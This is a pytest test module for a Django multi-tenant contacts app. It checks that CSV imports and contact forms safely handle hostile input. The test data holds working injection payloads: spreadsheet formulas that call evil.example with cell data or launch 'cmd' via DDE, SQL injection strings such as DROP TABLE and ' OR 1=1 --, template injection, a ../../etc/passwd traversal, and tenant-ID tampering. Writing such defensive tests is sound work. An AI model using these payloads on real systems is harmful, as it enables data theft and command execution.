"""Hostile files and fields, each through the pages: the answers of ``tests/hostile_inputs.json`` and of their like."""

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from common.phone_numbers import reading_format
from consent.models import ConsentRecord
from consent.services import is_suppressed, opt_out
from contacts.bulk.run import run_job
from contacts.exporting.pieces import pieces
from contacts.importing.chunks import chunks
from contacts.importing.decoding import Row, read_table
from contacts.importing.staging import StagedRow
from contacts.models import Contact, ContactImport, ImportRow, ListMember
from contacts.services import create_contact, create_field, create_list, start_job
from contacts.services.bulk import People
from tenants.scope import tenant_scope
from tests.cast import Cast, make_cast
from tests.contacts.test_import_pages import CHOICES, confirmed, upload
from tests.hostile_inputs import CASES, content_of
from tests.web import sign_in, text_of

ANN, BEN, OUT = "+12025550123", "+12025550124", "+12025550166"
_BEN_TOO = f"Ben,{BEN}\n".encode()


@pytest.fixture
def cast(transactional_db: None) -> Cast:
    """Committed, because the run of an import commits chunk by chunk."""
    return make_cast()


@pytest.fixture
def mona(client: Client, cast: Cast) -> Client:
    return sign_in(client, cast.mona, cast.clinic.tenant)


def brought_in(client: Client, cast: Cast, content: bytes, *, basis: str = "web_form") -> ContactImport:
    """Upload a file, leave the columns as they are guessed, import it."""
    answer = upload(client, content)
    assert answer.status_code == 302, answer.context["form"].errors
    form = client.get(answer.url).context["form"]
    columns = {name: form[name].initial or "" for name in form.column_names}
    checked = client.post(answer.url, CHOICES | {"tag": "", "new_list": "", "basis": basis} | columns)
    assert checked.status_code == 302, checked.context["form"].errors
    confirmed(client, cast, answer.url)
    with tenant_scope(cast.clinic.tenant.id):
        return ContactImport.objects.latest("id")


def people(cast: Cast) -> dict[str, str]:
    with tenant_scope(cast.clinic.tenant.id):
        return {each.number: each.full_name for each in Contact.objects.all()}


def problems(cast: Cast) -> dict[int, str]:
    with tenant_scope(cast.clinic.tenant.id):
        return dict(ImportRow.objects.filter(outcome="rejected").values_list("row_number", "problem"))


# --- Files --------------------------------------------------------------------------------------------------------

ANSWERS: dict[str, tuple[bytes, dict[str, str], dict[int, str]]] = {
    "CSV-04": (content_of("CSV-04"), {ANN: "José"}, {}),
    "CSV-07": (content_of("CSV-07") + _BEN_TOO, {BEN: "Ben"}, {2: "The row is too long."}),
    "CSV-11": (content_of("CSV-11"), {ANN: "Ann"}, {}),
    "CSV-14": (content_of("CSV-14"), {ANN: ""}, {}),
    "odd rows": (
        f'name,phone\nAnn\n,,,\n"x,{ANN}\nEve,{ANN},stray\nA\0n,{ANN}\n\\.\nFay,{ANN}\x00\nBen,{BEN}\n'.encode(),
        {BEN: "Ben"},
        {2: "is empty", 4: "not closed", 5: "3 cells", 6: "NUL", 7: "is empty", 8: "NUL"},
    ),
    "odd names": (
        f"name,phone\n\\N,{ANN}\n{{{{ 7*7 }}}}{{% debug %}},{BEN}\n'; DROP TABLE contacts_contact; --,{OUT}\n".encode(),
        {ANN: "\\N", BEN: "{{ 7*7 }}{% debug %}", OUT: "'; DROP TABLE contacts_contact; --"},
        {},
    ),
    "other values": (
        "phone,email,time zone,language,opt in date\n"
        f'{ANN},"ann@x.example\nBcc: e@x.example",,,\n{ANN},,../../etc/passwd,,\n{ANN},,,{"x" * 11},\n{ANN},,,,99999-1-1\n'
        f"{BEN},,,,\n".encode(),
        {BEN: ""},
        {2: "e-mail", 3: "time zone", 4: "too long", 5: "cannot be read"},
    ),
}


@pytest.mark.parametrize("name", ANSWERS)
def test_a_file_gets_its_answer(mona: Client, cast: Cast, name: str) -> None:
    content, who, refused = ANSWERS[name]
    brought_in(mona, cast, content)
    assert people(cast) == who
    found = problems(cast)
    assert list(found) == list(refused)
    assert {row: hint for row, hint in refused.items() if hint not in found[row]} == {}


REFUSED: dict[str, tuple[bytes, str]] = {
    "NUL in a title": (f"na\0me,phone\nAnn,{ANN}\n".encode(), "NUL character"),
    "UTF-16 without its mark": (f"name,phone\nAnn,{ANN}\n".encode("utf-16-le"), "not a text file"),
    "UTF-32": (f"name,phone\nAnn,{ANN}\n".encode("utf-32"), "not a text file"),
    "packed by gzip": (b"\x1f\x8b\x08" + bytes(range(256)) * 4, "not a text file"),
    "a program": (b"MZ\x90\x00" + bytes(range(256)) * 40, "not a text file"),
    "JSON": (b'[{"name":"Ann","phone":"+12025550123"}]', "looks like a person"),
    "201 columns": (b"phone," + b"c," * 200 + b"\n", "Keep at most 200"),
    "a long title": (b"phone," + b"x" * 201 + b"\n1,2\n", "longer than 200"),
}


@pytest.mark.parametrize("name", REFUSED)
@pytest.mark.django_db
def test_a_file_that_is_none_is_refused(client: Client, name: str) -> None:
    content, hint = REFUSED[name]
    cast = make_cast()
    answer = upload(sign_in(client, cast.mona, cast.clinic.tenant), content)
    assert answer.status_code == 422
    assert hint in text_of(answer)


NAMES = {
    "cp1250": "Małgorzata",
    "cp1251": "Иван",
    "cp1253": "Γιώργος",
    "cp1255": "דוד",
    "koi8-r": "Иван",
    "mac_roman": "José",
    "cp850": "José",
    "shift_jis": "山田太郎",
    "gb18030": "王小明",
    "big5": "王小明",
    "euc_kr": "김철수",
}


@pytest.mark.parametrize("codec", NAMES)
def test_a_file_whose_letters_cannot_be_told_is_refused(codec: str) -> None:
    rows = "".join(f"{name},{ANN}\n" for name in ("Ann", NAMES[codec], "Ben"))
    with pytest.raises(ValueError, match="does not look right"):
        read_table(f"name,phone\n{rows}".encode(codec))


def test_letters_of_western_europe_look_right() -> None:
    names = (
        "José Müller François Ångström Þórður Jürgen Peña Ñandú O’Brien O´Hara Ibáñez Zoë Søren Strauß Œuvre Šárka Noël "
        "Conceição Ærø Créée JOSÉ MUÑOZ «Été» „Hans“ ¡Hola ¿Qué £5 €10 Ltd™ 20°C Jean-François GUTIÉRREZ Ýmir"
    ).split()
    content = "name\n" + "".join(f"{name}\n" for name in names)
    assert [row.cells for row in read_table(content.encode("cp1252")).rows()] == [[name] for name in names]


def test_wide_rows_are_stored_a_few_at_a_time() -> None:
    """Whatever their number, no more of them are in memory than fit into a little of it."""
    wide = [StagedRow(n, "line", Row(n, ["x" * 30_000])) for n in range(2_000)]
    many_cells = [StagedRow(n, "line", Row(n, [""] * 10_000)) for n in range(2_000, 2_100)]
    found = list(chunks([*wide, *many_cells], 20_000))
    assert [staged.number for chunk in found for staged in chunk] == list(range(2_100))
    assert max(sum(len(cell) + 50 for staged in chunk for cell in staged.row.cells) for chunk in found) < 20_000_000
    assert [len(chunk) for chunk in chunks(wide[:5], 2)] == [2, 2, 1]


def test_formulas_are_taken_literally_and_never_given_out(mona: Client, cast: Cast) -> None:
    formulas = {
        ANN: '=HYPERLINK("http://evil.example/?"&A1)',
        BEN: "@SUM(1+9)*cmd|'/C calc'!A0",
        "+12025550125": "-2+3",
        "+12025550126": "+1-1",
        "+12025550127": "＝1+1",
        "+12025550128": '"=1+1"',
    }
    assert f"{formulas[ANN]},{ANN}" in CASES["CSV-01"]["input"]
    assert f"{formulas[BEN]},{BEN}" in CASES["CSV-02"]["input"]
    out = io.StringIO()
    csv.writer(out).writerows([["first name", "phone"], *((name, number) for number, name in formulas.items())])
    brought_in(mona, cast, out.getvalue().encode())
    for case_id in ("CSV-01", "CSV-02"):
        # As they stand, without quotes around the cell.
        brought_in(mona, cast, content_of(case_id).replace(b"name", b"first name"))
    assert people(cast) == formulas
    tenant = cast.clinic.tenant
    with tenant_scope(tenant.id):
        job = start_job(
            tenant=tenant,
            kind="export",
            people=People(query={}),
            values={"columns": "number,first_name", "format": "csv"},
            user_id=cast.mona.id,
        )
    run_job(tenant.id, job.id)
    _, *rows = csv.reader(io.StringIO(b"".join(pieces(tenant.id, job.id)).decode("utf-8-sig"), newline=""))
    assert dict(rows) == {number: f"'{name}" for number, name in formulas.items()}


SPELLINGS = [
    "(202) 555-0123",
    CASES["FORM-11"]["input"]["phone"],
    CASES["FORM-13"]["input"]["phone"],
    CASES["FORM-14"]["input"]["phone"],
    "+१२०२५५५०१२३",
    "tel:+1-202-555-0123",
    "\u202a+12025550123\u202c",
    "\u200b+12025550123",
    "+1\u00a0202\u00a0555\u00a00123",
    "+1\u2013202\u2010555\u20110123",
    "011 1 202 555 0123",
    "12025550123.0",
    '="+12025550123"',
    "+12025550123#5",
]


def test_spellings_of_one_number_are_one_person_with_one_agreement(mona: Client, cast: Cast) -> None:
    out = io.StringIO()
    csv.writer(out).writerows([["name", "phone"], ["Ann", ANN], *(["Ann", each] for each in SPELLINGS)])
    job = brought_in(mona, cast, out.getvalue().encode())
    assert (people(cast), job.counts) == ({ANN: "Ann"}, {"created": 1, "merged": len(SPELLINGS)})
    with tenant_scope(cast.clinic.tenant.id):
        assert ConsentRecord.objects.filter(number=ANN).count() == 1
        ann = Contact.objects.get()
    for typed in SPELLINGS[:4]:
        answer = mona.post(reverse("contact_add"), {"number": typed})
        assert answer.status_code == 422
        assert f'<a href="{reverse("contact", args=[ann.id])}">Ann</a>' in answer.content.decode(), typed
    assert list(people(cast)) == [ANN]


def test_who_opted_out_stays_out_and_is_listed(mona: Client, cast: Cast) -> None:
    with tenant_scope(cast.clinic.tenant.id):
        opt_out(number=OUT, source="reply", wording="STOP")
    content = content_of("CSV-13") + "(202) 555-0166\n＋１２０２５５５０１６６\n".encode()
    job = brought_in(mona, cast, content)
    rows = mona.get(reverse("import_job", args=[job.id]), {"note": "opted_out"}).context["rows"]
    assert [row.number for row, _, _ in rows] == [OUT]
    with tenant_scope(cast.clinic.tenant.id):
        assert is_suppressed(number=OUT)
        assert not ConsentRecord.objects.filter(number=OUT, act="opt_in").exists()


def test_columns_named_like_the_systems_own_reach_no_other_tenant(mona: Client, cast: Cast) -> None:
    shop = cast.shop.tenant
    with tenant_scope(shop.id):
        theirs = create_contact(tenant=shop, number=ANN, values={"first_name": "Theirs"})
        their_list = create_list(name="Theirs")
    titles = ["phone", "first name", "tenant_id", "Tenant ID", "list_id", "id", "contact_id", "pk", "created_at"]
    values = [ANN, "Ours", shop.id, shop.id, their_list.id, theirs.id, theirs.id, theirs.id, "2001-01-01"]
    brought_in(mona, cast, f"{','.join(titles)}\n{','.join(map(str, values))}\n".encode())
    with tenant_scope(shop.id):
        assert [each.first_name for each in Contact.objects.all()] == ["Theirs"]
        assert not ListMember.objects.exists()
    with tenant_scope(cast.clinic.tenant.id):
        ours = Contact.objects.get()
        assert (ours.first_name, ours.id == theirs.id, ours.created_at.year > 2001) == ("Ours", False, True)
        assert ours.fields == {"pk": str(theirs.id)}


# --- Fields -------------------------------------------------------------------------------------------------------


def test_a_name_is_kept_as_typed_and_never_run(mona: Client, cast: Cast) -> None:
    script, attribute = CASES["FORM-01"]["input"]["name"], CASES["FORM-02"]["input"]["name"].strip()
    website = CASES["FORM-03"]["input"]["website"]
    with tenant_scope(cast.clinic.tenant.id):
        create_field(label="Website", kind="text")
    posted = {"number": ANN, "first_name": script, "last_name": attribute, "field_website": website}
    answer = mona.post(reverse("contact_add"), posted)
    assert answer.status_code == 302
    with tenant_scope(cast.clinic.tenant.id):
        kept = Contact.objects.get()
    assert (kept.first_name, kept.last_name, kept.fields) == (script, attribute, {"website": website})
    for page in (answer.url, reverse("contacts"), reverse("contact_edit", args=[kept.id])):  # type: ignore[attr-defined]
        text = mona.get(page).content.decode()
        assert escape(script) in text, page
        assert script not in text, page
        assert attribute not in text, page
        assert 'href="java' not in text, page


NEVER = {
    "FORM-08": ({"number": ANN, "first_name": CASES["FORM-08"]["input"]["name"]}, "Null characters", "NUL"),
    "FORM-15": ({"number": CASES["FORM-15"]["input"]["phone"]}, "premium-rate", "premium-rate"),
    "FORM-16": ({"number": CASES["FORM-16"]["input"]["phone"]}, "do not allow", "do not allow"),
    "a premium-rate number at home": ({"number": "+1 900 555 0123"}, "premium-rate", "premium-rate"),
    "two numbers": ({"number": f"{ANN} / {BEN}"}, "not a phone number", "not a phone number"),
    "a raised digit": ({"number": "+1202555012³"}, "not a phone number", "not a phone number"),
    "an emergency number": ({"number": "911"}, "No such number", "No such number"),
    "too many digits": ({"number": "1" * 41}, "at most 40", "too long"),
}


@pytest.mark.parametrize("name", NEVER)
def test_what_is_refused_is_refused_at_both_doors(mona: Client, cast: Cast, name: str) -> None:
    typed, at_the_form, in_the_file = NEVER[name]
    answer = mona.post(reverse("contact_add"), typed)
    assert answer.status_code == 422
    assert at_the_form in text_of(answer)
    content = f"phone,first name\n{typed['number']},{typed.get('first_name', '')}\n{BEN},Ben\n"
    brought_in(mona, cast, content.encode())
    assert in_the_file in problems(cast)[2]
    assert people(cast) == {BEN: "Ben"}


ODD: list[tuple[dict[str, Any], set[str]]] = [
    ({"_connector": "OR 1=1) --", "_negated": "1"}, {ANN}),
    ({"tenant_id": "2", "id__in": "1", "contact__tenant": "2"}, {ANN}),
    ({"page": "9223372036854775808", "after": "NaN", "limit": "1e400", "offset": "-1"}, {ANN}),
    ({"q": "a" * 50_000 + "!"}, set()),
    ({"q": "' OR 1=1 --"}, set()),
]


@pytest.mark.parametrize(("query", "found"), ODD)
@pytest.mark.django_db
def test_odd_parameters_of_a_list_change_nothing(client: Client, query: dict[str, Any], found: set[str]) -> None:
    cast = make_cast()
    for company, number in ((cast.clinic, ANN), (cast.shop, BEN)):
        with tenant_scope(company.tenant.id):
            create_contact(tenant=company.tenant, number=number, values={})
    answer = sign_in(client, cast.mona, cast.clinic.tenant).get(reverse("contacts"), query)
    assert answer.status_code == 200
    text = text_of(answer)
    assert {number for number in (ANN, BEN) if reading_format(number) in text} == found
